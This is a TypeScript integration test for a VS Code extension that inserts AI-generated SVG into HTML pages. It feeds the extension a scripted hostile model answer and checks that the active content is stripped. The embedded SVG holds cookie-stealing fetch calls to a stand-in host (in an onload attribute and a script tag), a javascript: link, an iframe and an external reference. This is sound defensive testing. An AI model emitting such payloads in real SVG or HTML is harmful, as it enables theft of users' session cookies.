// Model output is untrusted, checked on the VSIX as a user installs it: a
// scripted OpenAI-compatible endpoint answers "Generate SVG from Prompt" with
// the hostile SVG (script, an onload that sends the cookies away, a javascript:
// link, a foreignObject iframe, an outside reference), generated into an HTML
// page. The page must end with the drawing and no active content.
import * as assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { parseSvg } from '../../src/core/svg/parse';
import { allElements } from '../../src/core/svg/query';
import { startFaultServer, type FaultServer } from '../loop/faultServer';

const HOSTILE = `Here is your icon:
\`\`\`svg
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200" onload="fetch('https://evil.example/?c='+document.cookie)">
<script>fetch('https://evil.example/?c='+document.cookie)</script>
<a href="javascript:alert(document.domain)"><circle cx="100" cy="100" r="80" fill="#36c"/></a>
<foreignObject width="200" height="200"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/frame"></iframe></foreignObject>
<use href="https://evil.example/sprite.svg#x"/>
</svg>
\`\`\``;

/** A new HTML page in a scratch folder, open in an editor with the cursor on the empty line of its body. */
async function openBlankPage(): Promise<vscode.TextDocument> {
  const file = join(mkdtempSync(join(tmpdir(), 'vsix-hostile-')), 'page.html');
  writeFileSync(file, '<!doctype html>\n<html>\n<body>\n\n</body>\n</html>\n');
  const doc = await vscode.workspace.openTextDocument(file);
  const editor = await vscode.window.showTextDocument(doc);
  editor.selection = new vscode.Selection(3, 0, 3, 0);
  return doc;
}

describe('installed VSIX: a hostile model answer', function () {
  this.timeout(120_000);
  let server: FaultServer;
  const config = () => vscode.workspace.getConfiguration('svgCopilot');
  const settings: Record<string, unknown> = { endpoint: '', 'loop.rounds': 1, 'loop.candidates': 1, 'server.autoStart': false };

  before(async () => {
    server = await startFaultServer((r) => {
      if (r.kind === 'generate' || r.kind === 'refine') return { text: HOSTILE };
      if (r.kind === 'probe') return { text: '{"ok": true}' };
      return { text: JSON.stringify({ score: 9, critique: 'fine', suggestions: 'None needed.' }) };
    });
    settings.endpoint = server.url;
    for (const [key, value] of Object.entries(settings)) await config().update(key, value, vscode.ConfigurationTarget.Global);
  });
  after(async () => {
    for (const key of Object.keys(settings)) await config().update(key, undefined, vscode.ConfigurationTarget.Global);
    await server?.close();
  });

  it('"Generate SVG from Prompt" into an HTML page lands the drawing with no active content', async () => {
    const doc = await openBlankPage();
    const done = await vscode.commands.executeCommand<boolean>('svgCopilot.generate', 'a blue ball');
    assert.equal(done, true, 'the generation did not finish');
    assert.ok(server.requests.some((r) => r.kind === 'generate'), 'the scripted endpoint was asked');
    const text = doc.getText();
    const start = text.indexOf('<svg');
    const end = text.lastIndexOf('</svg>');
    assert.ok(start > 0 && end > start, `no SVG landed in the page:\n${text}`);
    const svg = text.slice(start, end + '</svg>'.length);
    assert.match(svg, /<circle cx="100" cy="100" r="80" fill="#36c"\/>/, 'the drawing landed');
    assert.doesNotMatch(text, /<script|onload|javascript:|evil\.example|<iframe|foreignObject/i, `active content in the page:\n${text}`);
    const parsed = parseSvg(svg);
    assert.deepEqual(parsed.errors, []);
    for (const el of allElements(parsed)) {
      for (const a of el.attributes) {
        assert.ok(!/^on/i.test(a.name), `${a.name} on <${el.name}>`);
        if (/(^|:)href$/.test(a.name)) assert.match(a.value, /^#/, `${a.name}="${a.value}"`);
      }
    }
    await doc.save();
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  it('control: with svgCopilot.allowActiveContent on, the same answer lands as the model wrote it', async () => {
    await config().update('allowActiveContent', true, vscode.ConfigurationTarget.Global);
    try {
      const doc = await openBlankPage();
      assert.equal(await vscode.commands.executeCommand<boolean>('svgCopilot.generate', 'a blue ball'), true);
      assert.match(doc.getText(), /<script>fetch\('https:\/\/evil\.example/, 'the check above could not have seen a script');
      await doc.save();
      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    } finally {
      await config().update('allowActiveContent', undefined, vscode.ConfigurationTarget.Global);
    }
  });
});
